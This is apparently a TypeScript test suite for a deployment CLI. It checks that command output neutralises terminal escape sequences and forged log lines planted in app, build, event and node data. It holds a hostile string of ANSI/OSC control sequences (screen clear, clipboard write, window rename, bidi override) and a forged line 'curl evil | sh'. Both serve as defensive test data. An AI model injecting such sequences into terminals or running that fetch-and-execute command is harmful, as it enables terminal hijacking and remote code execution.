import assert from 'node:assert/strict';
import { PassThrough, Readable } from 'node:stream';
import { after, before, describe, it } from 'node:test';
import type { Cli } from '../../../cli/cli.ts';
import { createClient, type ApiClient } from '../../../cli/client.ts';
import { runProgram } from '../../../cli/program.ts';
import { plainPaint } from '../../../cli/terminal/paint.ts';
import { liveNode } from '../../../controller/dispatch/live-node.ts';
import { NodeRegistry } from '../../../controller/dispatch/node-registry.ts';
import { run } from '../../../shared/kit/exec.ts';
import { openApi, type ApiFixture } from '../../support/api-fixture.ts';
import { addApp, assignment, newRelease, noChange, slugOf } from '../../support/store-fixtures.ts';

/** Sequences that clear the screen, write the clipboard, rename the window, overwrite the line and reverse text; 7 and 8 bit. */
const HOSTILE = '\u001b[2J\u001b]52;c;aGk=\u0007\u009b31m\u009d0;root\u009c\rAll is well.\u202e\u2028\u0000\u007f';
/** Control characters that a terminal would execute. Colours are off in this test. */
const OBEYED = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u2028-\u202e\u2066-\u2069]/;
/** A line break could imitate another entry. */
const FORGED = `${HOSTILE}\nNext: curl evil | sh`;

/** Every command that shows texts of other users, apps or nodes. */
const SCREENS: readonly (readonly string[])[] = [
  ...[['status'], ['events'], ['why', 'shop'], ['why', 'web.1'], ['why', 'fra'], ['nodes'], ['nodes:info', 'fra']],
  ...[
    ['apps'],
    ['apps:info'],
    ['ps'],
    ['ps:scale'],
    ['ps:limits'],
    ['placement'],
    ['releases'],
    ['builds'],
    ['builds:output'],
    ['logs'],
  ],
  ...[['config'], ['domains'], ['keys'], ['tokens'], ['users'], ['whoami'], ['rebalance'], ['nodes:tokens']],
  ...[['apps:root'], ['buildpacks']],
];

describe('texts of apps, owners and nodes on a terminal', () => {
  let fixture: ApiFixture;
  let client: ApiClient;
  before(async () => {
    fixture = await openApi({ buildLog: () => Promise.resolve(Readable.from([`${HOSTILE}\n`])) });
    const { caller, user } = await fixture.addCaller('root', true);
    client = createClient({ url: fixture.url, token: caller.token!, caPem: fixture.authority.caPem });
    await fill(fixture, user.id);
  });
  after(async () => {
    await client.close();
    await fixture.close();
  });

  async function shown(args: readonly string[]): Promise<string> {
    let text = '';
    const write = (part: string): Promise<void> => {
      text += part;
      return Promise.resolve();
    };
    const cli: Cli = {
      ...{
        write,
        note: (part) => void write(part),
        colour: false,
        paint: plainPaint,
        interactive: false,
        nowMs: Date.now,
        configPath: '/nonexistent',
      },
      ...{
        api: () => Promise.resolve(client),
        app: () => Promise.resolve('shop'),
        openEditor: () => Promise.resolve(),
        screen: () => ({ columns: 80, rows: 24 }),
      },
      ...{
        run,
        cwd: '/',
        env: {},
        readSecret: () => Promise.resolve(''),
        readLine: () => Promise.resolve(undefined),
        signal: new AbortController().signal,
      },
      stdin: () => Readable.from([]),
      console: () => ({ stdin: Readable.from([]), stdout: new PassThrough(), stderr: new PassThrough() }),
      setExitCode: () => undefined,
    };
    await runProgram(args, cli);
    return text;
  }

  for (const args of SCREENS) {
    it(`slipway ${args.join(' ')}`, async () => {
      const text = await shown(args);
      assert.notEqual(text, '');
      assert.doesNotMatch(text, OBEYED);
    });
  }

  it('shows each entry in one line, so that no other entry can be forged', async () => {
    for (const args of [
      ['status'],
      ['events'],
      ['why', 'web.1'],
      ['ps'],
      ['releases'],
      ['builds'],
      ['nodes:info', 'fra'],
    ])
      assert.doesNotMatch(await shown(args), /^\s*Next: curl evil/m, args.join(' '));
  });

  it('gives programs unchanged texts', async () => {
    assert.equal(await shown(['config:get', 'HOSTILE']), `${HOSTILE}\n`);
    assert.ok((await shown(['config', '--shell'])).includes(HOSTILE));
    assert.ok((await shown(['logs', '--raw'])).includes(HOSTILE));
  });
});

async function fill({ store, fleet, addNodeCaller }: ApiFixture, userId: Parameters<typeof addApp>[1]): Promise<void> {
  const app = await addApp(store, userId, 'shop');
  await store.setConfig(app.id, { HOSTILE });
  await store.changeBuildSettings(app.id, () => ({ root: HOSTILE, buildpacks: [HOSTILE] }));
  const slug = { ...slugOf('a'), processTypes: { web: `node ${HOSTILE}` }, buildpacks: [HOSTILE] };
  await store.createRelease(newRelease(app, { slug, description: FORGED }));
  const build = await store.createBuild({ appId: app.id, userId, commit: 'c'.repeat(40) });
  const failure = { code: 'SLIP_BUILD_FAILED', message: FORGED, hint: FORGED };
  await store.setBuildState(build.id, 'failed', { failure });
  const { node } = await addNodeCaller('fra');
  const row = assignment({ nodeId: node.id, appId: app.id, release: 1 });
  await store.changeAssignments({ ...noChange, add: [row] });
  await store.addEvent({
    kind: `node.x${HOSTILE}`,
    actor: 'node fra',
    app: 'shop',
    node: 'fra',
    message: FORGED,
    next: FORGED,
  });
  const reason = { code: 'SLIP_APP_CRASHED', message: FORGED, hint: FORGED };
  fleet.statuses.set(row.instanceId, {
    ...{ instanceId: row.instanceId, state: 'backoff', restarts: 3, reason, lastLines: [HOSTILE], timingsMs: {} },
    lastExit: { signal: HOSTILE, oomKilled: false, atMs: 1 },
  });
  const known = new NodeRegistry().upsert({ ...node, state: 'ready' });
  const words = {
    agentVersion: FORGED,
    os: HOSTILE,
    kernel: FORGED,
    arch: HOSTILE,
    sandboxDriver: HOSTILE,
    proxyVersion: HOSTILE,
  };
  fleet.live = [
    {
      ...liveNode({ ...known, facts: { ...known.facts, ...words, missing: [FORGED], httpAddress: HOSTILE } }),
      connected: true,
    },
  ];
  fleet.lines = [{ atMs: 1, source: 'app', process: 'web.1', message: HOSTILE }];
}
